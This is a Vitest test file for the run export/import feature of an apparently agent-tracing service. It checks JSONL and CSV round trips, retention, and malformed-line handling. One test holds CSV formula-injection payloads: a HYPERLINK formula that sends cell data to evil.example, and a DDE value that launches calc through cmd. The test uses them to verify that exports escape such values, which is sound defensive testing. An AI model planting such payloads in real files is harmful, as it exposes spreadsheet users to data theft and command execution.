import { PassThrough, Readable, Writable } from 'node:stream';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { createTestApp, describeEachDb, dialects, type TestApp } from '../../test/harness.js';
import {
  T0,
  emptyDb,
  exportText,
  runLines,
  sansRetention,
  seed,
  tableRows,
} from '../../test/cli-fixtures.js';
import { countExport, exportRuns, type ExportOptions } from './export.js';
import { importRuns } from './import.js';
import { toExportedRun } from './record.js';
import { purgeEndedBefore } from '../retention/purge.js';

describeEachDb('export and import', (dialect) => {
  let source: TestApp;
  let text: string;

  beforeAll(async () => {
    source = await createTestApp(dialect);
    await seed(source, 'rt');
    // settings the export carries besides runs: an agent's schedule, timeout and metadata,
    // and a price override
    const agent = await source.request('PUT', '/api/v1/agents/writer', {
      name: 'Writer',
      description: 'writes the weekly report',
      schedule: { cron: '0 9 * * 1', timezone: 'Europe/Paris' },
      timeout_ms: 60_000,
      max_concurrency: 3,
      max_concurrency_per_thread: 1,
      metadata: { team: 'docs' },
    });
    expect(agent.statusCode).toBe(200);
    const price = await source.request('PUT', '/api/v1/prices/my-model', {
      input_per_mtok: 1.5,
      output_per_mtok: 6,
    });
    expect(price.statusCode).toBe(200);
    text = await exportText(source.ctx.db);
  });
  afterAll(async () => {
    await source.close();
  });

  it('exports one JSONL line per run, oldest first, with its steps', () => {
    const lines = runLines(text);
    expect(lines).toHaveLength(13);
    const first = JSON.parse(lines[0]!) as { id: string; steps: { id: string }[] };
    expect(first.id).toBe('rt-run-0');
    expect(first.steps.map((s) => s.id)).toEqual(['rt-run-0-s1', 'rt-run-0-s2']);
  });

  it('gives back the same rows, rollups and export after an import into an empty database', async () => {
    const { db, database } = await emptyDb(dialect);
    try {
      const result = await importRuns(db, Readable.from([text]), { batchSize: 4 });
      expect(result).toMatchObject({ runs: 13, steps: 24, agents: 3, prices: 1, rejected: 0 });
      expect(await tableRows(db)).toEqual(await tableRows(source.ctx.db));
      // the project line too, but for retention: the new project keeps these old runs
      expect(sansRetention(await exportText(db))).toBe(sansRetention(text));
    } finally {
      await db.close();
      await database.drop();
    }
  });

  it('creates a project that keeps what it imports: retention does not delete a restore', async () => {
    const { db, database } = await emptyDb(dialect);
    try {
      // runs ended long before today, as in any backup
      await importRuns(db, Readable.from([text]), { batchSize: 4 });
      const project = await db.kysely
        .selectFrom('projects')
        .select('retention_days')
        .where('id', '=', 'default')
        .executeTakeFirstOrThrow();
      const oldestDays = (Date.now() - T0) / 86_400_000;
      expect(project.retention_days).toBeGreaterThan(oldestDays);
      const purged = await purgeEndedBefore(db, {
        projectId: 'default',
        before: Date.now() - project.retention_days * 86_400_000,
      });
      expect(purged.runs).toBe(0);
      // a project that was there keeps its own setting
      await db.kysely.updateTable('projects').set({ retention_days: 7 }).execute();
      await importRuns(db, Readable.from([text]));
      expect(
        (await db.kysely.selectFrom('projects').select('retention_days').executeTakeFirstOrThrow())
          .retention_days,
      ).toBe(7);
    } finally {
      await db.close();
      await database.drop();
    }
  });

  it('counts the imported runs retention will delete to the instant, not by whole days', async () => {
    const { db, database } = await emptyDb(dialect);
    try {
      await importRuns(db, Readable.from([text]));
      await db.kysely.updateTable('projects').set({ retention_days: 7 }).execute();
      const cutoff = Date.now() - 7 * 86_400_000;
      const base = JSON.parse(runLines(text)[0]!) as Record<string, unknown>;
      const line = (id: string, endedAt: number) =>
        JSON.stringify({
          ...base,
          id,
          steps: [],
          queued_at: null,
          started_at: new Date(endedAt - 1000).toISOString(),
          ended_at: new Date(endedAt).toISOString(),
        });
      // the first ends on the day of the cutoff when the day allows: before, runs there
      // were never counted, and retention then deleted them without a word
      const dayStart = Math.floor(cutoff / 86_400_000) * 86_400_000;
      const lines = [
        line('exp-same-day', Math.max(dayStart, cutoff - 5 * 60_000)),
        line('exp-days-ago', cutoff - 2 * 86_400_000),
        line('kept', cutoff + 3_600_000),
      ];
      const result = await importRuns(db, Readable.from([lines.join('\n') + '\n']));
      expect(result.rejected).toBe(0);
      expect(result.expiring).toEqual([{ projectId: 'default', runs: 2, retentionDays: 7 }]);
      const purged = await purgeEndedBefore(db, { projectId: 'default', before: cutoff });
      expect(purged.runs).toBeGreaterThanOrEqual(2);
    } finally {
      await db.close();
      await database.drop();
    }
  });

  it('changes nothing when the same file is imported twice', async () => {
    const { db, database } = await emptyDb(dialect);
    try {
      await importRuns(db, Readable.from([text]));
      const once = await tableRows(db);
      await importRuns(db, Readable.from([text]), { batchSize: 3 });
      expect(await tableRows(db)).toEqual(once);
    } finally {
      await db.close();
      await database.drop();
    }
  });

  it('keeps the stored steps of a run imported as the API answers it, without steps', async () => {
    const { db, database } = await emptyDb(dialect);
    try {
      await importRuns(db, Readable.from([text]));
      const before = await tableRows(db);
      // rt-run-0 as GET /runs/:id gives it: no steps key, and a changed tag
      const line = JSON.parse(runLines(text)[0]!) as Record<string, unknown>;
      delete line.steps;
      line.tags = ['fetched'];
      const result = await importRuns(db, Readable.from([`${JSON.stringify(line)}\n`]));
      expect(result).toMatchObject({ runs: 1, steps: 0, existing: 1 });
      const after = await tableRows(db);
      expect(after.steps).toEqual(before.steps);
      const run = after.runs.find((r) => r.id === 'rt-run-0')!;
      expect(JSON.parse(run.tags)).toEqual(['fetched']);
      // an empty list is a list: it does replace them
      line.steps = [];
      await importRuns(db, Readable.from([`${JSON.stringify(line)}\n`]));
      const emptied = await tableRows(db);
      expect(emptied.steps.filter((s) => s.run_id === 'rt-run-0')).toEqual([]);
    } finally {
      await db.close();
      await database.drop();
    }
  });

  it('keeps the stored steps past the first page of a run imported as ?include=steps gives it', async () => {
    const { db, database } = await emptyDb(dialect);
    try {
      await importRuns(db, Readable.from([text]));
      const before = await tableRows(db);
      const stored = before.steps.filter((s) => s.run_id === 'rt-run-0');
      expect(stored.length).toBeGreaterThan(1);
      // rt-run-0 as GET /runs/:id?include=steps gives a run of more steps than a page: the
      // first of them, and a cursor for the rest
      const line = JSON.parse(runLines(text)[0]!) as { steps: unknown[] } & Record<string, unknown>;
      line.steps = line.steps.slice(0, 1);
      line.steps_next_cursor = 'the-rest';
      line.tags = ['fetched'];
      const result = await importRuns(db, Readable.from([`${JSON.stringify(line)}\n`]));
      expect(result).toMatchObject({ runs: 1, steps: 1, existing: 1, rejected: 0 });
      const after = await tableRows(db);
      // replaced by the page, the others were deleted under a run that still counted them
      expect(after.steps).toEqual(before.steps);
      expect(after.runs.find((r) => r.id === 'rt-run-0')!.step_count).toBe(stored.length);
    } finally {
      await db.close();
      await database.drop();
    }
  });

  it('reports malformed lines by number and still imports the valid ones', async () => {
    const { db, database } = await emptyDb(dialect);
    const lines = runLines(text);
    const broken = [
      lines[0],
      '{not json',
      lines[1],
      JSON.stringify({ ...JSON.parse(lines[2]!), started_at: 'yesterday' }),
      '',
      lines[3],
    ].join('\n');
    const rejects: string[] = [];
    try {
      const result = await importRuns(db, Readable.from([broken]), {
        onReject: (n, why) => rejects.push(`${n}: ${why}`),
      });
      expect(result).toMatchObject({ runs: 3, rejected: 2, lines: 6 });
      expect(rejects[0]).toBe('2: not valid JSON');
      expect(rejects[1]).toMatch(/^4: started_at: /);
    } finally {
      await db.close();
      await database.drop();
    }
  });

  it('refuses a cost past what the database holds on its line, and imports the lines beside it', async () => {
    const { db, database } = await emptyDb(dialect);
    const lines = runLines(text);
    const line = (i: number) => JSON.parse(lines[i]!) as { cost_usd: number; steps: object[] };
    const run = line(1);
    run.cost_usd = 1e300;
    const step = line(2);
    step.steps[0] = { ...step.steps[0], cost_usd: 1e300 };
    const file = [lines[0], JSON.stringify(run), JSON.stringify(step), lines[3]].join('\n');
    const rejects: string[] = [];
    try {
      const result = await importRuns(db, Readable.from([file]), {
        onReject: (n, why) => rejects.push(`${n}: ${why}`),
      });
      expect(result).toMatchObject({ runs: 2, rejected: 2 });
      expect(rejects).toEqual([
        expect.stringMatching(/^2: cost_usd: Too big/),
        expect.stringMatching(/^3: steps\.0\.cost_usd: Too big/),
      ]);
      const costs = await db.kysely.selectFrom('runs').select('cost_nanos').execute();
      expect(costs.map((r) => Number.isFinite(Number(r.cost_nanos)))).toEqual([true, true]);
    } finally {
      await db.close();
      await database.drop();
    }
  });

  it('refuses a line too long to read on its own, and imports the lines after it', async () => {
    const { db, database } = await emptyDb(dialect);
    const lines = runLines(text);
    // a run line past what one string holds (a run of many large steps) is as this one past
    // the limit given; CRLF line ends are taken too
    const long = JSON.stringify({ ...JSON.parse(lines[2]!), input: 'x'.repeat(10_000) });
    const file = [lines[0], lines[1], long, lines[3]].join('\r\n') + '\r\n';
    const longest = Buffer.byteLength(long);
    const rejects: string[] = [];
    try {
      const result = await importRuns(db, Readable.from([Buffer.from(file)]), {
        maxLineBytes: 10_000,
        onReject: (n, why) => rejects.push(`${n}: ${why}`),
      });
      expect(result).toMatchObject({ lines: 4, rejected: 1 });
      expect(rejects).toEqual([
        `3: ${longest} bytes, longer than a line can be read (${long.slice(0, 100)}...)`,
      ]);
      const ids = await db.kysely.selectFrom('runs').select('id').orderBy('id').execute();
      const id = (line: string) => (JSON.parse(line) as { id: string }).id;
      expect(ids.map((r) => r.id)).toEqual(
        [lines[0], lines[1], lines[3]].map((l) => id(l!)).sort(),
      );
    } finally {
      await db.close();
      await database.drop();
    }
  });

  it('imports a file that starts with a byte order mark, as an editor may save it', async () => {
    const { db, database } = await emptyDb(dialect);
    const file = '\uFEFF' + text;
    try {
      const result = await importRuns(db, Readable.from([Buffer.from(file)]));
      expect(result).toMatchObject({ rejected: 0, runs: runLines(text).length });
      expect(sansRetention(await exportText(db))).toBe(sansRetention(text));
    } finally {
      await db.close();
      await database.drop();
    }
  });

  it('restores agents with their schedules and price overrides, and names a bad settings line', async () => {
    const { db, database } = await emptyDb(dialect);
    const settings = text
      .split('\n')
      .filter((l) => l.startsWith('{"kind"'))
      .map((l) => JSON.parse(l) as Record<string, unknown>);
    const project = settings.find((l) => l.kind === 'project')!;
    const writer = settings.find((l) => l.kind === 'agent' && l.id === 'writer')!;
    expect(writer).toMatchObject({
      name: 'Writer',
      schedule: { cron: '0 9 * * 1', timezone: 'Europe/Paris' },
      timeout_ms: 60_000,
      metadata: { team: 'docs' },
      next_run_at: expect.any(String),
    });
    const lines = [
      JSON.stringify({ ...project, name: 'Restored', retention_days: 400 }),
      JSON.stringify({ ...writer, schedule: { cron: 'every monday', timezone: 'UTC' } }),
      JSON.stringify({
        ...writer,
        id: 'second',
        schedule: { cron: '* * * * *', timezone: 'Mars/Olympus' },
      }),
      JSON.stringify({
        kind: 'price',
        project_id: 'default',
        model: 'm',
        input_per_mtok: -1,
        output_per_mtok: 1,
      }),
      JSON.stringify({ kind: 'key', id: 'k' }),
      JSON.stringify(writer),
      ...runLines(text).slice(0, 2),
    ];
    const rejects: string[] = [];
    try {
      const result = await importRuns(db, Readable.from([lines.join('\n')]), {
        projectId: 'restored',
        onReject: (n, why) => rejects.push(`${n}: ${why}`),
      });
      expect(result).toMatchObject({ runs: 2, agents: 1, prices: 0, rejected: 4 });
      expect(rejects).toEqual([
        expect.stringMatching(/^2: schedule\.cron: not a valid cron expression/),
        '3: schedule.timezone: unknown time zone Mars/Olympus',
        expect.stringMatching(/^4: input_per_mtok: /),
        expect.stringMatching(/^5: kind: /),
      ]);
      // a project the import creates takes the file's name and retention (400 days keeps
      // these runs); the agent lands in it as the file has it, schedule and next slot too
      const created = await db.kysely
        .selectFrom('projects')
        .selectAll()
        .where('id', '=', 'restored')
        .executeTakeFirstOrThrow();
      expect(created).toMatchObject({ name: 'Restored', retention_days: 400 });
      const agent = await db.kysely
        .selectFrom('agents')
        .selectAll()
        .where('project_id', '=', 'restored')
        .where('id', '=', 'writer')
        .executeTakeFirstOrThrow();
      expect(agent).toMatchObject({
        name: 'Writer',
        schedule_cron: '0 9 * * 1',
        schedule_tz: 'Europe/Paris',
        schedule_next_at: Date.parse(writer.next_run_at as string),
        timeout_ms: 60_000,
        // its caps on runs at once
        max_concurrency: 3,
        max_concurrency_per_thread: 1,
        created_at: Date.parse(writer.created_at as string),
      });
      expect(JSON.parse(agent.metadata)).toEqual({ team: 'docs' });
      // a project that was there keeps its name and retention
      await importRuns(db, Readable.from([lines[0]!]), { projectId: 'restored' });
      await db.kysely.updateTable('projects').set({ name: 'Mine', retention_days: 9 }).execute();
      await importRuns(db, Readable.from([lines[0]!]), { projectId: 'restored' });
      expect(
        await db.kysely.selectFrom('projects').select(['name', 'retention_days']).execute(),
      ).toEqual([{ name: 'Mine', retention_days: 9 }]);
    } finally {
      await db.close();
      await database.drop();
    }
  });

  it('carries a paused schedule through export and import; an older export without paused runs', async () => {
    const { db, database } = await emptyDb(dialect);
    const writer = text
      .split('\n')
      .filter((l) => l.startsWith('{"kind":"agent"'))
      .map((l) => JSON.parse(l) as Record<string, unknown>)
      .find((l) => l.id === 'writer')!;
    expect(writer.schedule).toEqual({ cron: '0 9 * * 1', timezone: 'Europe/Paris', paused: false });
    const lines = [
      { ...writer, id: 'paused', schedule: { ...(writer.schedule as object), paused: true } },
      { ...writer, id: 'older', schedule: { cron: '0 9 * * 1', timezone: 'Europe/Paris' } },
    ].map((l) => JSON.stringify(l));
    try {
      const result = await importRuns(db, Readable.from([lines.join('\n')]), {
        projectId: 'default',
      });
      expect(result).toMatchObject({ agents: 2, rejected: 0 });
      const rows = await db.kysely
        .selectFrom('agents')
        .select(['id', 'schedule_cron', 'schedule_paused'])
        .orderBy('id')
        .execute();
      expect(rows).toEqual([
        { id: 'older', schedule_cron: '0 9 * * 1', schedule_paused: 0 },
        { id: 'paused', schedule_cron: '0 9 * * 1', schedule_paused: 1 },
      ]);
    } finally {
      await db.close();
      await database.drop();
    }
  });

  it('imports a step seq past 2^31 into SQLite, as it was stored, and names it on PostgreSQL', async () => {
    const { db, database } = await emptyDb(dialect);
    const line = JSON.parse(runLines(text)[0]!) as { steps: { seq: number }[] };
    line.steps[0]!.seq = 2 ** 31;
    const rejects: string[] = [];
    try {
      const result = await importRuns(db, Readable.from([JSON.stringify(line)]), {
        onReject: (n, why) => rejects.push(`${n}: ${why}`),
      });
      if (dialect === 'sqlite') expect(result).toMatchObject({ runs: 1, rejected: 0 });
      else expect(rejects).toEqual(['1: steps.0.seq: at most 2147483647 on PostgreSQL']);
    } finally {
      await db.close();
      await database.drop();
    }
  });

  it('filters by agent and time window, and counts what it exports', async () => {
    const count = (opts: Partial<ExportOptions>) =>
      countExport(source.ctx.db, { projectId: 'default', format: 'jsonl', ...opts });
    const agentOnly = await exportText(source.ctx.db, { agentId: 'bug-triager' });
    const ids = runLines(agentOnly).map((l) => (JSON.parse(l) as { id: string }).id);
    expect(ids).toEqual(['rt-run-0', 'rt-run-3', 'rt-run-6', 'rt-run-9']);
    // the settings of that agent only, with the project's and its prices
    const kinds = agentOnly
      .trimEnd()
      .split('\n')
      .map((l) => JSON.parse(l) as { kind?: string; id: string; model?: string })
      .filter((l) => l.kind !== undefined)
      .map((l) => `${l.kind}:${l.model ?? l.id}`);
    expect(kinds).toEqual(['project:default', 'agent:bug-triager', 'price:my-model']);
    expect(await count({ agentId: 'bug-triager' })).toBe(4);
    const range = { since: T0 + 3_600_000, until: T0 + 3 * 3_600_000 };
    const window = await exportText(source.ctx.db, range);
    expect(runLines(window)).toHaveLength(2);
    expect(await count(range)).toBe(2);
    expect(await count({ ...range, agentId: 'bug-triager' })).toBe(0);
    expect(await count({})).toBe(13);
  });

  it('exports CSV with one quoted line per run', async () => {
    const csv = await exportText(source.ctx.db, { format: 'csv', agentId: 'writer' });
    const lines = csv.trimEnd().split('\n');
    expect(lines[0]).toMatch(/^id,project_id,agent_id,status,/);
    expect(lines[1]).toMatch(/^rt-run-1,default,writer,failed,manual,n8n,/);
    expect(lines[1]).toContain(',it broke,');
  });

  it('writes recorded text that a spreadsheet would take for a formula as text', async () => {
    const events = [
      {
        type: 'run.end',
        run: {
          id: 'csv-formula',
          agent_id: 'csv-agent',
          status: 'failed',
          source: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
          user_id: "+cmd|' /C calc'!A0",
          tags: ['@SUM(1+1)', '=1+1'],
          error: { message: '-1+1' },
        },
      },
    ];
    expect((await source.request('POST', '/api/v1/ingest', { events })).statusCode).toBe(200);
    const csv = await exportText(source.ctx.db, { format: 'csv', agentId: 'csv-agent' });
    const cells = csv.trimEnd().split('\n')[1]!;
    expect(cells).toContain(`,"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",`);
    expect(cells).toContain(`,'+cmd|' /C calc'!A0,`);
    // the tags' cell is quoted: a ; does not start a cell where ; separates them
    expect(cells).toContain(`,"'@SUM(1+1);=1+1",`);
    expect(cells).toContain(`,'-1+1,`);
    await source.request('DELETE', '/api/v1/runs/csv-formula');
  });

  it('restores a run deleted lately: its id takes events again', async () => {
    const ingest = (events: unknown[]) => source.request('POST', '/api/v1/ingest', { events });
    expect(
      (await ingest([{ type: 'run.start', run: { id: 'restore-1', agent_id: 'a' } }])).statusCode,
    ).toBe(200);
    const line = runLines(await exportText(source.ctx.db)).find((l) =>
      l.includes('"id":"restore-1"'),
    )!;
    expect((await source.request('DELETE', '/api/v1/runs/restore-1')).statusCode).toBe(204);
    const end = [{ type: 'run.end', run: { id: 'restore-1', status: 'succeeded' } }];
    expect((await ingest(end)).statusCode).toBe(207);
    await importRuns(source.ctx.db, Readable.from([`${line}\n`]));
    expect((await ingest(end)).statusCode).toBe(200);
    const run = await source.request('GET', '/api/v1/runs/restore-1');
    expect(JSON.parse(run.body)).toMatchObject({ status: 'succeeded', agent_id: 'a' });
    expect((await source.request('DELETE', '/api/v1/runs/restore-1')).statusCode).toBe(204);
  });
});

describeEachDb('export of long runs', (dialect) => {
  it("exports one snapshot: a step recorded meanwhile is neither in its run's totals nor among its steps", async () => {
    const t = await createTestApp(dialect);
    try {
      const steps = (run: string, from: number, count: number) =>
        Array.from({ length: count }, (_, i) => ({
          type: 'step.end',
          step: { id: `s${from + i}`, run_id: run, type: 'llm', input_tokens: 10 },
        }));
      const events = [
        { type: 'run.start', run: { id: 'first', agent_id: 'a', started_at: T0 } },
        ...steps('first', 0, 1),
        // more steps than a run written with others: its steps are read after the first's line
        { type: 'run.start', run: { id: 'running', agent_id: 'a', started_at: T0 + 1 } },
        ...steps('running', 0, 150),
      ];
      expect((await t.request('POST', '/api/v1/ingest', { events })).statusCode).toBe(200);
      let text = '';
      let recorded = false;
      const out = new Writable({
        // every write waits for its callback: the export waits while the server records
        highWaterMark: 1,
        write(chunk: Buffer, _enc, done) {
          text += chunk.toString('utf8');
          if (recorded || !text.includes('"id":"first"')) return done();
          recorded = true;
          // the running run's agent records a step after the run was read, before its steps
          void t
            .request('POST', '/api/v1/ingest', { events: steps('running', 150, 1) })
            .then((res) => done(res.statusCode === 200 ? null : new Error(res.body)));
        },
      });
      await exportRuns(t.ctx.db, { projectId: 'default', format: 'jsonl' }, out);
      expect(recorded).toBe(true);
      const line = runLines(text)
        .map((l) => JSON.parse(l) as { id: string; step_count: number; steps: unknown[] })
        .find((l) => l.id === 'running')!;
      // the line said 150 steps and held 151: imported, its run counted a step less than it had
      expect(line.steps).toHaveLength(line.step_count);
      expect(line.step_count).toBe(150);
    } finally {
      await t.close();
    }
  });

  it('writes a run of many steps a piece at a time, the same line as a run of few', async () => {
    const t = await createTestApp(dialect);
    try {
      const steps = (run: string, count: number) =>
        Array.from({ length: count }, (_, i) => ({
          type: 'step.end',
          step: { id: `s${i}`, run_id: run, type: 'tool', output: { i }, started_at: T0 + i },
        }));
      const events = [
        { type: 'run.start', run: { id: 'long', agent_id: 'a', started_at: T0 } },
        ...steps('long', 450),
        { type: 'run.end', run: { id: 'long', status: 'succeeded', ended_at: T0 + 500 } },
        { type: 'run.start', run: { id: 'short', agent_id: 'a', started_at: T0 + 1 } },
        ...steps('short', 3),
      ];
      expect((await t.request('POST', '/api/v1/ingest', { events })).statusCode).toBe(200);
      const lines = runLines(await exportText(t.ctx.db));
      expect(lines).toHaveLength(2);
      // the line a run of few steps gets: the run and its steps stringified whole
      const whole = async (id: string) => {
        const row = await t.ctx.db.kysely
          .selectFrom('runs')
          .selectAll()
          .where('id', '=', id)
          .executeTakeFirstOrThrow();
        const rows = await t.ctx.db.kysely
          .selectFrom('steps')
          .selectAll()
          .where('run_id', '=', id)
          .orderBy('seq')
          .orderBy('id')
          .execute();
        return JSON.stringify(toExportedRun(row, rows));
      };
      expect(lines[0]).toBe(await whole('long'));
      expect(lines[1]).toBe(await whole('short'));
      expect((JSON.parse(lines[0]!) as { steps: unknown[] }).steps).toHaveLength(450);
    } finally {
      await t.close();
    }
  });

  it('writes runs whose steps hold large payloads a run at a time, not a batch in one string', async () => {
    const t = await createTestApp(dialect);
    try {
      // 8 runs of 3 steps of 900 kB: one batch of few-step runs, 21 MB of payloads
      const big = 'x'.repeat(900_000);
      for (let r = 0; r < 8; r++) {
        const events = [
          { type: 'run.start', run: { id: `big-${r}`, agent_id: 'a', started_at: T0 + r } },
          ...Array.from({ length: 3 }, (_, i) => ({
            type: 'step.end',
            step: { id: `s${i}`, run_id: `big-${r}`, type: 'llm', output: big },
          })),
        ];
        expect((await t.request('POST', '/api/v1/ingest', { events })).statusCode).toBe(200);
      }
      const out = new PassThrough();
      const writes: number[] = [];
      const chunks: Buffer[] = [];
      out.on('data', (c: Buffer) => {
        writes.push(c.length);
        chunks.push(c);
      });
      await exportRuns(t.ctx.db, { projectId: 'default', format: 'jsonl' }, out);
      out.end();
      // each write holds at most one such run's line (2.7 MB), never the batch's 21 MB
      expect(Math.max(...writes)).toBeLessThan(4 * 1024 * 1024);
      const lines = runLines(Buffer.concat(chunks).toString('utf8'));
      expect(lines).toHaveLength(8);
      for (const line of lines) {
        const run = JSON.parse(line) as { steps: { output: unknown }[] };
        expect(run.steps.map((s) => s.output)).toEqual([big, big, big]);
      }
    } finally {
      await t.close();
    }
  });
});

const bothDialects = dialects().length === 2;
(bothDialects ? describe : describe.skip)('export and import across dialects', () => {
  it('moves a history from SQLite to PostgreSQL and back unchanged', async () => {
    if (!inject('pgAvailable')) return;
    const source = await createTestApp('sqlite');
    const pgDb = await emptyDb('postgres');
    const back = await emptyDb('sqlite');
    try {
      await seed(source, 'x');
      const text = await exportText(source.ctx.db);
      await importRuns(pgDb.db, Readable.from([text]));
      expect(await tableRows(pgDb.db)).toEqual(await tableRows(source.ctx.db));
      const fromPg = await exportText(pgDb.db);
      expect(sansRetention(fromPg)).toBe(sansRetention(text));
      await importRuns(back.db, Readable.from([fromPg]));
      expect(await exportText(back.db)).toBe(fromPg);
    } finally {
      await source.close();
      for (const d of [pgDb, back]) {
        await d.db.close();
        await d.database.drop();
      }
    }
  });
});
